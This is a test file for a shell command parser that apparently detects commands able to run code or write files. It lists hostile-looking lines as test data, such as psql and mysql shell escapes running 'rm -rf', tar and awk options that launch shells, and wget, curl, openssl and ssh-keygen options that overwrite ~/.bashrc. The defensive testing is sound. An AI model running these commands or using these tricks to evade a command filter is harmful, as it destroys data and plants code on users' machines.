/**
 * Programs read as what they are named that run code from their arguments or input, or write files
 * through options (code-options.ts, write-options.ts, writes.ts): SQL clients' shell escapes, tar
 * and awk options in abbreviations, wget -e, curl/openssl/ssh-keygen output options. The same lines
 * run end to end in test/ssh/ssh-commands-e2e.test.ts (corpus.ts) and ssh-sql-clients-e2e.test.ts.
 */
import { describe, expect, it } from "vitest";
import { parseCommandLine } from "./parse.ts";

const unknown = (line: string) => parseCommandLine(line).hasUnknown;
const written = (line: string) => parseCommandLine(line).commands.flatMap((c) => (c.writes ?? []).map((w) => w.unknown ? "?" : w.path));

describe("programs that run code from their arguments or input", () => {
  it("psql and mysql/mariadb: unknown unless plain statements are on the command line", () => {
    for (const line of [
      "psql -c '\\! rm -rf /x'", "psql -Xc '\\! rm -rf /x'", "psql --comm='\\! x'", "psql -f /tmp/x.sql", "psql --fi=/tmp/x.sql", "psql", "psql db < x.sql",
      "psql -d -c 'select 1'", "psql -c \"$SQL\"", "psql -c 'select `id`'", "psql \"$URL\" -c 'select 1'",
      "mysql -e 'system rm -rf /x'", "mysql -e 'select 1; system rm -rf /x'", "mysql -e 'SELECT 1;\nSYSTEM id'", "mysql -e '\\! id'", "mariadb -e 'tee /tmp/x'",
      "psql-16 -c '\\! id'", "mysql.8 -e 'system id'", "mysql", "mysql -hexample.com", "mysql -u -e 'select 1'", "mysql -h 127.0.0.1 -u ci -pxyzV", "psql -hlocalhost", "psql -U -l", "mysql --plugin-dir=/tmp --default-auth=x -e 'select 1'", "mysql --defaults-extra-file=/tmp/c -e 'select 1'",
    ]) expect(unknown(line), line).toBe(true);
    // Variables naming the clients' start-up files or plugin directories.
    for (const line of ["PSQLRC=/tmp/x psql -c 'select 1'", "export PSQLRC=/tmp/x; psql -c 'select 1'", "MYSQL_HOME=/tmp mysql -e 'select 1'", "LIBMYSQL_PLUGIN_DIR=/tmp mysql -e 'select 1'", "SYSTEMWGETRC=/tmp/rc wget -qO- http://x/"]) expect(unknown(line), line).toBe(true);
    for (const line of ["psql -h db -c 'select 1'", "psql postgres://u@h/db -X -A -t -c 'select 6*7'", "psql -l", "psql --version", "mysql -h db -u root -pS3CR3T -e 'select 1'", "mysql --batch -e 'select 1'", "mysql --user root -N -B -e 'select 6*7'", "mariadb --version"]) {
      expect(unknown(line), line).toBe(false);
    }
  });

  it("tar options that run programs, in any getopt_long abbreviation", () => {
    for (const line of ["tar --rsh=sh -cf h:/x /etc", "tar cf h:/x --rsh-com=sh /etc", "tar -cf x --use-compress-prog=sh /etc", "tar -cf x --checkpoint=1 --checkpoint-act=exec=id /etc", "tar -cf - --info-scr=/tmp/x -L 1 /etc", "tar -xf a --to-com=sh", "tar -cf x --rmt=/tmp/x h:/y"]) {
      expect(unknown(line), line).toBe(true);
    }
    for (const line of ["tar -cf /dev/null --checkpoint=1 /etc/hostname", "tar -czf /tmp/x.tgz /etc/hostname", "tar --to-stdout -xf a"]) expect(unknown(line), line).toBe(false);
  });

  it("cpio --rsh-command, m4, logrotate, dc, and awk options other than -v/-F", () => {
    for (const line of ["cpio -o -F h:/x --rsh-command=sh", "cpio -o --rsh-c=sh", "echo 'syscmd(id)' | m4", "m4 -P /tmp/x", "logrotate -s /tmp/s /tmp/c", "dc -e '!id'", "mawk -W exec /tmp/x", "gawk --sour='BEGIN{system(\"id\")}' f", "gawk -i /tmp/x 'BEGIN{}'", "gawk -o.bashrc 'BEGIN{}'", "awk -f /tmp/x"]) {
      expect(unknown(line), line).toBe(true);
    }
    // A configuration or macro file is hidden code: deny rules refuse it, an allow rule may name it.
    expect(parseCommandLine("logrotate /etc/logrotate.conf").commands[0]!.hidden).toBeTruthy();
    expect(parseCommandLine("m4 defs.m4").commands[0]!.hidden).toBeTruthy();
    for (const line of ["awk -F: '{print $1}' /etc/passwd", "awk -F : -v x=1 '{print x}' f", "awk -vx=1 -- '{print x}' f", "awk '{print $1}' f"]) expect(unknown(line), line).toBe(false);
  });

  it("wget -e/--execute (wgetrc commands), --config and --use-askpass", () => {
    for (const line of ["wget -O- -e output_document=.bashrc http://x/", "wget -qO- --execute=output_document=.bashrc http://x/", "wget -qe use_askpass=/tmp/x http://x/", "wget -P /tmp --config=/tmp/rc http://x/", "wget -O /tmp/x --use-askpass=/tmp/x http://x/"]) {
      expect(unknown(line), line).toBe(true);
    }
    for (const line of ["wget -qO- http://x/", "wget -O /tmp/site.html http://x/", "wget -q -O - http://x/"]) expect(unknown(line), line).toBe(false);
  });
});

describe("files written through options", () => {
  it("curl header, cookie, trace and generated-source files; --write-out %output{}", () => {
    expect(written("curl -o /tmp/x --dump-header .bashrc http://x/").sort()).toEqual(["/tmp/x", "~/.bashrc"]);
    expect(written("curl -o /tmp/x -sD.bashrc http://x/")).toContain("~/.bashrc");
    for (const o of ["-c", "--cookie-jar", "--cookie-j", "--trace", "--trace-ascii", "--stderr", "--libcurl", "--libc", "--etag-save", "--hsts", "--alt-svc"]) expect(written(`curl -o /tmp/x ${o} ~/.profile http://x/`), o).toContain("~/.profile");
    expect(written("curl -o /tmp/x -w '%output{.bashrc}%{url}' http://x/")).toContain("?");
    expect(written("curl -fsS -H 'Accept: x' -d '{\"a\":1}' http://127.0.0.1/")).toEqual([]);
  });

  it("wget logs and state files, psql -o/-L, mysql --tee, dump files", () => {
    expect(written("wget -O /tmp/x -o .bashrc http://x/")).toContain("~/.bashrc");
    expect(written("wget -qO- -a .bashrc http://x/")).toContain("~/.bashrc");
    expect(written("wget -qO- --save-cookies=.bashrc http://x/")).toContain("~/.bashrc");
    expect(written("psql -c 'select 1' -o ~/.bashrc")).toEqual(["~/.bashrc"]);
    expect(written("psql -c 'select 1' --log-f=.bashrc")).toEqual(["~/.bashrc"]);
    expect(written("mysql --tee=.bashrc -e 'select 1'")).toEqual(["~/.bashrc"]);
    expect(written("mysqldump -r ~/.bashrc db")).toEqual(["~/.bashrc"]);
    expect(written("pg_dump -f ~/.bashrc db")).toEqual(["~/.bashrc"]);
  });

  it("openssl single-dash output words", () => {
    expect(written("openssl req -x509 -newkey rsa:2048 -nodes -keyout ~/.bashrc -out /tmp/c -subj /CN=x").sort()).toEqual(["/tmp/c", "~/.bashrc"]);
    expect(written("openssl rand -writerand .bashrc 1")).toEqual(["~/.bashrc"]);
    expect(written("openssl s_client -connect h:443 -keylogfile .bashrc -sess_out /tmp/s")).toEqual(["~/.bashrc", "/tmp/s"]);
    expect(written("openssl x509 -in c -noout -text")).toEqual([]);
  });

  it("ssh-keygen -f FILE and FILE.pub unless the operation only reads", () => {
    expect(written("ssh-keygen -t ed25519 -f ~/.bashrc -N ''")).toEqual(["~/.bashrc", "~/.bashrc.pub"]);
    expect(written("ssh-keygen -f.bashrc -N ''")).toEqual(["~/.bashrc", "~/.bashrc.pub"]);
    // -C takes a value: `-l` here is the comment, not the fingerprint operation.
    expect(written("ssh-keygen -C -l -f ~/.ssh/x -N ''")).toEqual(["~/.ssh/x", "~/.ssh/x.pub"]);
    expect(written("ssh-keygen -t ed25519 -N ''")).toEqual(["~/.ssh/id_key"]);
    expect(written("ssh-keygen -s ca -I id ~/.ssh/id.pub")).toEqual(["~/.ssh/id-cert.pub"]);
    for (const line of ["ssh-keygen -lf ~/.ssh/authorized_keys", "ssh-keygen -y -f ~/.ssh/id_ed25519", "ssh-keygen -F host -f ~/.ssh/known_hosts"]) expect(written(line), line).toEqual([]);
  });
});
